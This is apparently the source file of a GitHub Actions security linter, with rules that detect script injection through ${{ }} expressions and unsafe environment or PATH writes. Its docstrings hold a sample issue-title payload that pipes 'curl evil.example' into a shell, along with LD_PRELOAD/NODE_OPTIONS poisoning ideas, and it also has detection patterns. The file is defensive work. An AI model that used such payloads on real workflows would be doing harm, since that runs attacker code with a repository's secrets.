"""Rules about text of others that becomes code."""

from __future__ import annotations

from typing import TYPE_CHECKING

from agent_security_hooks.checks.actions_lint import check, steps_of
from agent_security_hooks.model import Edit, Hit, Incomplete, excerpt
from agent_security_hooks.parse.actions.workflow import string
from agent_security_hooks.parse.pattern import Pattern

if TYPE_CHECKING:
    from collections.abc import Iterator

    from agent_security_hooks.parse.actions.taint import Expanded
    from agent_security_hooks.parse.actions.taint_writes import Write
    from agent_security_hooks.parse.actions.workflow import Step, Workflow
    from agent_security_hooks.parse.tree import Node
    from agent_security_hooks.source import Source


@check.rule("script-injection", point=8)
def script_injection(file: Source) -> Iterator[Hit]:
    """Text that others write becomes part of a script before the shell or the interpreter reads it.

    `${{ }}` is replaced by its text first, so quotes in the script protect nothing. What an outsider writes is reported everywhere, what people with
    rights in the repository type only where the job holds secrets or may write. References to `env`, `steps`, `needs` and `matrix` are followed back.

    Risk: An issue called `"; curl evil.example | sh; "` runs that command with the job's token and secrets.
    Fix: Hand the text over in `env:` of the step and let the shell expand it, in double quotes: `"$TITLE"`.
    Verify: Open an issue called `$(id)`: the log shows these five characters.

    Bad: (.github/workflows/greet.yml)
        on: issues
        permissions: {}
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "New issue ${{ github.event.issue.title }}"

    Good: (.github/workflows/greet.yml)
        on: issues
        permissions: {}
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - env:
                  TITLE: ${{ github.event.issue.title }}
                run: echo "New issue $TITLE"
    """
    if _is_harmless(file.data):
        return
    from agent_security_hooks.parse.actions.taint import SECRET, code_of, is_complete, taints

    count, asked = 0, None
    for step in steps_of(file):
        for place, node in code_of(step):
            asked = step.workflow
            found = [expanded for expanded in taints(node, step) if expanded.taint.level != SECRET]
            if found:
                yield from _injections(step, place, node, found, mend=count < _MENDED)
                count += len(found)
    if b"./" in file.data:
        yield from _handed_over(file)
    if asked is not None and not is_complete(asked):
        raise Incomplete("a text has more expressions than are looked at")


# Contexts that nobody can write a text of their own into; what is in a matrix stands in the file.
_FIXED_ROOTS = frozenset((b"secrets", b"matrix", b"runner", b"job", b"strategy"))
_FIXED_CONTEXTS = frozenset(
    b"github.token github.sha github.run_id github.run_number github.repository github.repository_owner github.actor github.workflow github.event_name "
    b"github.workspace github.job github.server_url github.event.number github.event.pull_request.number github.event.issue.number".split()
)
_NAME = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-."


def _is_harmless(data: bytes) -> bool:
    """Whether a file has no expressions but plain contexts of a fixed shape; a look at the bytes, before anything is parsed."""
    pieces = data.split(b"${{")
    if data.count(b"{{") >= len(pieces):  # in double quotes, "\x24{{" is the same
        return False
    for piece in pieces[1:]:
        end = piece.find(b"}}")
        inner = piece[: max(end, 0)].strip()
        if inner in _FIXED_CONTEXTS:
            continue
        root, dot, rest = inner.partition(b".")
        if end < 0 or not dot or root not in _FIXED_ROOTS or rest.translate(None, _NAME):
            return False
    return True


def shorten(text: str, limit: int) -> str:
    """An excerpt that shows where it was cut."""
    shown = excerpt(text, limit + 1)
    return shown if len(shown) <= limit else shown[:limit].rstrip() + "…"


_MENDED = 1000
"""Findings of one file that come with edits; no report shows more."""


def _injections(step: Step, place: str, node: Node, found: list[Expanded], *, mend: bool) -> Iterator[Hit]:
    from agent_security_hooks.parse.actions.taint import INSIDER, OUTSIDER, holds_secrets
    from agent_security_hooks.parse.actions.taint_fixes import in_comments, plan_fixes

    # Whoever may set variables of the repository may mostly change its workflows, too.
    loud = [expanded for expanded in found if expanded.taint.level in (OUTSIDER, INSIDER) and not expanded.taint.path.startswith("vars.")]
    powerful = bool(loud) and holds_secrets(step.job)
    loud = [expanded for expanded in loud if expanded.taint.level == OUTSIDER or powerful]
    if any(expanded.taint.one_line for expanded in loud):
        harmless = in_comments(step, node, [expanded for expanded in loud if expanded.taint.one_line])
        loud = [expanded for expanded in loud if expanded.start not in harmless]
    if not step.workflow.file.thorough:
        found = loud
    if not found:
        return
    blocking = {expanded.start for expanded in loud}
    fixes = plan_fixes(step, node, found, mend=mend)
    if 0 < len(loud) < len(found):
        fixes.update(plan_fixes(step, node, loud, mend=mend))
    where = "the script" if place == "run" else f"{place}, which {step.repository} runs as code"
    for expanded in found:
        fix, changes = fixes[expanded.start]
        edits = tuple(Edit(start, end, replacement, safe=False) for start, end, replacement in changes)
        yield Hit(expanded.start, expanded.end, _message(expanded, where, powerful, step.workflow), fix, edits, expanded.start not in blocking)


def _handed_over(file: Source) -> Iterator[Hit]:
    """What goes into a script of a local action or reusable workflow."""
    from agent_security_hooks.checks.actions_lint import workflow_of
    from agent_security_hooks.parse.actions.callees import handed_in
    from agent_security_hooks.parse.actions.taint import INSIDER, OUTSIDER, holds_secrets

    workflow = workflow_of(file)
    for handed in handed_in(workflow) if workflow is not None else ():
        for expanded in handed.expanded:
            loud = expanded.taint.level == OUTSIDER or expanded.taint.level == INSIDER and holds_secrets(handed.job)
            if expanded.taint.level not in (OUTSIDER, INSIDER) or not (loud or file.thorough):
                continue
            callee = shorten(handed.callee, 120)
            where = f"a script by way of the input {shorten(handed.name, 40)} ({callee}:{handed.line})"
            fix = f'in {callee}, set the input in env: of the step and write it as "$NAME" in the script'
            yield Hit(expanded.start, expanded.end, _message(expanded, where, loud, workflow), fix, (), not loud)


_INDEX = Pattern(r"\[\s*'?([\w*-]{1,60})'?\s*\]")


def _message(expanded: Expanded, where: str, powerful: bool, workflow: Workflow | None) -> str:
    from agent_security_hooks.parse.actions.taint import INSIDER, OUTSIDER, is_absent

    taint = expanded.taint
    shown = shorten(" ".join(expanded.expression.inner.split()), 80)
    source = shorten(taint.path, 80)
    origin = "" if _INDEX.sub(r".\1", shown.lower()) == source else f" ({source})"
    if taint.level == OUTSIDER:
        absent = workflow is not None and is_absent(taint.path, workflow)  # one more event, and it is there
        events = ", though it is empty under the events of this workflow" if absent else ""
        return f"${{{{ {shown} }}}} is text that an outsider writes{origin}, and becomes part of {where}{events}"
    if taint.level == INSIDER:
        powers = ", in a job with secrets or write access" if powerful else ""
        return f"${{{{ {shown} }}}} is text that somebody types{origin}, and becomes part of {where}{powers}"
    return f"${{{{ {shown} }}}} becomes part of {where}, and nothing here says what it can hold{origin}"


@check.rule("insecure-commands", point=8)
def insecure_commands(file: Source) -> Iterator[Hit]:
    """Commands by which printed text changes the environment of later steps, or what outsiders write goes into it.

    A line for GITHUB_ENV or GITHUB_PATH sets any variable or program for all later steps. Text of one line (a title, a branch) can only be the value
    that it is written as, and is code wherever that is used without quotes or by `${{ env.X }}`.

    Risk: Whoever controls a line sets LD_PRELOAD, NODE_OPTIONS or PATH, and so runs code in the next step with its secrets.
    Fix: Drop ACTIONS_ALLOW_UNSECURE_COMMANDS and debug switches, write `NAME=value` to "$GITHUB_ENV", and keep what outsiders write out of it.
    Verify: `grep -rnE 'UNSECURE_COMMANDS|::set-env|::add-path|STEP_DEBUG' .github` prints nothing.

    Bad: (.github/workflows/label.yml)
        on: pull_request
        permissions: {}
        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: true
        jobs:
          label:
            runs-on: ubuntu-latest
            steps:
              - run: make label

    Good: (.github/workflows/label.yml)
        on: pull_request
        permissions: {}
        jobs:
          label:
            runs-on: ubuntu-latest
            steps:
              - run: make label
    """
    data = file.data
    if b"ACTIONS_" in data:
        yield from _switches(file)
    if not any(mark in data for mark in (b"GITHUB_ENV", b"GITHUB_PATH", b"github.env", b"github.path", b"::set-env", b"::add-path")):
        return
    from agent_security_hooks.parse.actions.taint import has_outsiders, written_by

    steps = steps_of(file)
    tainted = bool(steps) and has_outsiders(steps[0].workflow)
    for step in steps:
        script = string(step.get("run"))
        if any(mark in script for mark in _WAYS):
            yield from _old_commands(step, script)
            if "ACTIONS_" in script:
                yield from _exported_switches(step, script)
            for write in written_by(step) if tainted and ("$" in script or "`" in script) else ():
                if (hit := _tainted_write(write)) is not None:
                    yield hit


_WAYS = ("GITHUB_ENV", "GITHUB_PATH", "github.env", "github.path", "::set-env", "::add-path")
_SWITCHES = {
    "ACTIONS_ALLOW_UNSECURE_COMMANDS": "lets anything that a step prints set variables and PATH for the next ones",
    "ACTIONS_STEP_DEBUG": "writes the inputs and inner workings of every step into the log",
    "ACTIONS_RUNNER_DEBUG": "writes the runner's inner workings into the log",
}


def _switches(file: Source) -> Iterator[Hit]:
    from agent_security_hooks.checks.actions_lint import workflow_of

    workflow = workflow_of(file)
    if workflow is None:
        return
    owners = [workflow.root, *(job.node for job in workflow.jobs), *(step.node for step in workflow.steps)]
    for owner in owners:
        for name, key, value in _variables(owner, workflow):
            switch = name.upper()
            if switch in _SWITCHES and string(value).strip().lower() not in ("", "false", "0"):
                yield Hit(
                    key.start,
                    max(key.end, value.end),
                    f"{switch} {_SWITCHES[switch]}",
                    f"remove {switch}; for one run, set it as a secret or variable of the repository",
                )


_SWITCHED_ON = Pattern(rb"\b(ACTIONS_ALLOW_UNSECURE_COMMANDS|ACTIONS_STEP_DEBUG|ACTIONS_RUNNER_DEBUG)[ \t]{0,5}=[ \t]{0,5}[\"']?(?:true|True|TRUE|1)\b")


def _exported_switches(step: Step, script: str) -> Iterator[Hit]:
    """A switch that a script hands to later steps."""
    run = step.get("run")
    match = _SWITCHED_ON.search(script.encode("utf-8", "surrogateescape")) if "GITHUB_ENV" in script else None
    if match is not None and run is not None:
        switch = match[1].decode()
        start, end = run.text(step.workflow.file.data).span(*match.span())
        yield Hit(start, end, f"{switch} {_SWITCHES[switch]}", f"remove {switch}")


_OF_MATRIX = Pattern(r"\s*\$\{\{\s*matrix\.([A-Za-z_][\w-]*)\s*\}\}\s*")


def _variables(owner: Node, workflow: Workflow) -> Iterator[tuple[str, Node, Node]]:
    """What `env:` sets, also as one value of the matrix."""
    from agent_security_hooks.parse.actions.workflow import own

    variables = own(owner, "env")
    if variables is None:
        return
    yield from variables.entries()
    match = _OF_MATRIX.fullmatch(variables.value) if variables.kind == "scalar" else None
    job = next((step.job for step in workflow.steps if step.node is owner), None) if match is not None else None
    matrix = own(own(job.node, "strategy"), "matrix") if job is not None else None
    if match is None or matrix is None:
        return
    values = [value for key, _, value in matrix.entries() if key.lower() == match[1].lower()]
    included = own(matrix, "include")
    maps = [
        *values,
        *((found for item in included.elements() for key, _, found in item.entries() if key.lower() == match[1].lower()) if included is not None else ()),
    ]
    for value in maps:
        for item in (value, *value.elements()):
            yield from item.entries()


def _old_commands(step: Step, script: str) -> Iterator[Hit]:
    """`::set-env` and `::add-path`, which work with that switch only."""
    run = step.get("run")
    if run is None:
        return
    data = script.encode("utf-8", "surrogateescape")
    for command, file in ((b"::set-env", "GITHUB_ENV"), (b"::add-path", "GITHUB_PATH")):
        position = data.find(command)
        if position >= 0:
            start, end = run.text(step.workflow.file.data).span(position, position + len(command))
            line = 'echo "NAME=value" >> "$GITHUB_ENV"' if file == "GITHUB_ENV" else 'echo "/some/folder" >> "$GITHUB_PATH"'
            name = command.decode()[2:]
            yield Hit(start, end, f"the command {name} is obeyed in whatever a step prints, so it is switched off by default", line)


def _tainted_write(write: Write) -> Hit | None:
    from agent_security_hooks.parse.actions.taint import OUTSIDER

    if write.file not in ("GITHUB_ENV", "GITHUB_PATH") or write.taint.level != OUTSIDER:
        return None
    source = shorten(write.taint.path, 80)
    if write.file == "GITHUB_PATH":
        message = f"{source}, which an outsider writes, goes into GITHUB_PATH: programs of later steps are looked for there"
        return Hit(write.start, write.end, message, "write fixed folders to GITHUB_PATH only")
    if write.heredoc == "?":
        return None  # nobody can guess the line that ends the value
    name = excerpt(write.name, 40)
    if write.taint.one_line and write.name:
        message = (
            f"{source}, which an outsider writes, becomes the variable {name} of all later steps: "
            f"${{{{ env.{name} }}}} and an unquoted ${name} make code or further arguments of it"
        )
    elif write.taint.one_line:
        message = f"{source}, which an outsider writes, goes into GITHUB_ENV as a line of its own: NODE_OPTIONS=... or LD_PRELOAD=... in it sets that variable"
    elif write.heredoc:
        message = f"{source}, which an outsider writes, goes into GITHUB_ENV: a line {excerpt(write.heredoc, 30)} in it ends {name}, and what follows sets other variables"
    else:
        message = f"{source}, which an outsider writes, goes into GITHUB_ENV: each line break in it begins another variable"
    if write.taint.path.startswith("github."):
        fix = "hand it over in env: of the step that needs it" + ("" if write.taint.one_line else ", or end it with a random line: END=$(uuidgen); NAME<<$END")
    else:
        shape = "[A-Za-z0-9._/-]+" if write.taint.path.endswith(("ref", "branch", "label")) else "[0-9]+"
        fix = f'check it first: [[ "${name or "VALUE"}" =~ ^{shape}$ ]] || exit 1'
    return Hit(write.start, write.end, message, fix)
